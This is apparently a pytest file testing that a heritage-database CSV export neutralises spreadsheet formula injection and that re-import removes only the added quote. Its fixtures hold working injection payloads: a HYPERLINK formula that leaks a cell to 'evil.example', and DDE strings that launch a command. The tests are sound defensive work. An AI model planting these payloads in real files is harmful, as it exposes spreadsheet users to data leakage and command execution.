"""CSV injection (OWASP): the events export is safe to open in a spreadsheet, a free-text
cell that would run as a formula starting with a quote; `raw` writes every cell as stored;
and cells copied from the export import as what is stored."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy.engine import Engine
from sqlalchemy.orm import Session, sessionmaker

from heritage.auth import ANONYMOUS, SYSTEM
from heritage.interchange import tabular
from heritage.interchange.filters import ExportFilter
from heritage.interchange.importer import import_records
from heritage.interchange.tabular import (
    EVENT_COLUMNS,
    FORMULA_TRIGGERS,
    export_events_csv,
    read_events_csv,
    read_sites_csv,
)
from tests.heritage import builders as b

# What a hostile partner or a quoted article can put in free text: each starts a formula
# in Excel or LibreOffice, two of them running a command through DDE.
SITE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")'
ACTOR_NAME = "+cmd|' /C calc'!A0"
DESCRIPTIONS = {
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "quoted-formula": "'=1+1 was already quoted",  # gets a quote of its own, so it reads back
    "quote": "'Tis the season",  # a quote and no formula: as stored
    "plain": "Blown up by ISIL; = and - inside are harmless",
    "empty": "",
}


@pytest.fixture
def hostile(session_factory: sessionmaker[Session]) -> Iterator[dict[str, Any]]:
    """A temple and a city with hostile names, and an event per description at the
    temple, committed (the sliced export reads on connections of its own)."""
    with session_factory() as session:
        city = b.site(session, "Palmyra", "city", key="palmyra")
        temple = b.site(session, SITE_NAME, "temple", key="temple-of-bel")
        actor = b.actor(session, ACTOR_NAME, key="isil")
        for key, description in DESCRIPTIONS.items():
            b.event(
                session,
                temple,
                "looted",
                "2015-08",
                key=key,
                description=description,
                actors=[(actor, "perpetrator")],
            )
        b.event(session, city, "captured", "/2015-05-22", key="open-start", description="=1")
        session.commit()
        yield {"session": session}


def export_rows(session: Session, **options: Any) -> list[list[str]]:
    out = io.StringIO(newline="")
    export_events_csv(session, ANONYMOUS, out, ExportFilter(), **options)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert tuple(rows[0]) == EVENT_COLUMNS
    return rows[1:]


def by_key(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    return {row[0]: dict(zip(EVENT_COLUMNS, row, strict=True)) for row in rows}


def test_no_cell_of_the_export_starts_a_formula(hostile: dict[str, Any]) -> None:
    rows = export_rows(hostile["session"])
    assert len(rows) == len(DESCRIPTIONS) + 1
    for row in rows:
        for column, cell in zip(EVENT_COLUMNS, row, strict=True):
            assert not cell.startswith(FORMULA_TRIGGERS), (column, cell)
    events = by_key(rows)
    assert events["minus"]["site_names"] == "'" + SITE_NAME
    assert events["minus"]["actors"] == f"'{ACTOR_NAME} (perpetrator)"
    for key in ("minus", "at", "tab", "carriage-return", "quoted-formula"):
        assert events[key]["description"] == "'" + DESCRIPTIONS[key], key
    for key in ("quote", "plain", "empty"):
        assert events[key]["description"] == DESCRIPTIONS[key], key
    # Typed cells are written as stored: none can begin with a trigger.
    assert events["open-start"]["date"] == "/2015-05-22"
    assert events["open-start"]["site_names"] == "Palmyra"
    assert events["open-start"]["description"] == "'=1"


def test_raw_writes_every_cell_as_stored(hostile: dict[str, Any]) -> None:
    events = by_key(export_rows(hostile["session"], raw=True))
    assert events["minus"]["site_names"] == SITE_NAME
    assert events["minus"]["actors"] == f"{ACTOR_NAME} (perpetrator)"
    for key, description in DESCRIPTIONS.items():
        assert events[key]["description"] == description, key


def test_the_sliced_export_neutralises_the_same_cells(
    hostile: dict[str, Any], monkeypatch: pytest.MonkeyPatch, engine: Engine
) -> None:
    monkeypatch.setattr(tabular, "PARALLEL_FROM", 2)
    monkeypatch.setitem(tabular.SLICE_ROWS, engine.dialect.name, 2)
    session = hostile["session"]
    for raw in (False, True):
        whole, sliced = io.StringIO(newline=""), io.StringIO(newline="")
        export_events_csv(session, ANONYMOUS, whole, ExportFilter(), raw=raw)
        export_events_csv(session, ANONYMOUS, sliced, ExportFilter(), raw=raw, parallel=True)
        assert sliced.getvalue() == whole.getvalue()
        assert ("'" + DESCRIPTIONS["minus"] in whole.getvalue()) is not raw


def test_cells_copied_from_the_export_import_as_stored(
    hostile: dict[str, Any], session_factory: sessionmaker[Session]
) -> None:
    """A spreadsheet user copies the export's columns into the import layouts: every
    record reads back as it is stored, so the import leaves it unchanged."""
    events = by_key(export_rows(hostile["session"]))
    sites = io.StringIO(newline="")
    csv.writer(sites).writerows(
        [
            ["key", "name", "kind"],
            ["palmyra", events["open-start"]["site_names"], "city"],
            ["temple-of-bel", events["minus"]["site_names"], "temple"],
        ]
    )
    looted = io.StringIO(newline="")
    csv.writer(looted).writerows(
        [
            ["key", "event_type", "date", "sites", "perpetrators", "description"],
            *(
                [key, row["event_type"], row["date"], row["site_keys"], "isil", row["description"]]
                for key, row in events.items()
                # The import strips the whitespace around every cell, as before.
                if key not in ("open-start", "tab", "carriage-return")
            ),
        ]
    )
    for text, read in ((sites.getvalue(), read_sites_csv), (looted.getvalue(), read_events_csv)):
        report = import_records(
            session_factory, SYSTEM, lambda t=text, r=read: r(io.StringIO(t, newline=""))
        )
        assert report.ok, [str(problem) for problem in report.problems]
        assert report.created == report.updated == {}
    assert report.unchanged == {"event": len(DESCRIPTIONS) - 2}


@pytest.mark.parametrize(
    ("cell", "stored"),
    [
        ("'=1+1", "=1+1"),
        ("'-2+3", "-2+3"),
        ("'@SUM(A1)", "@SUM(A1)"),
        ("''=1+1", "'=1+1"),
        ("'Tis", "'Tis"),
        ("'", "'"),
        ("=1+1", "=1+1"),  # a file written by hand or with --raw
    ],
)
def test_the_import_takes_off_only_a_neutralising_quote(cell: str, stored: str) -> None:
    text = f'key,event_type,date,sites,description\nk,looted,2015,bel,"{cell}"\n'
    [(_, record)] = read_events_csv(io.StringIO(text, newline=""))
    assert isinstance(record, dict)
    assert record["description"] == stored
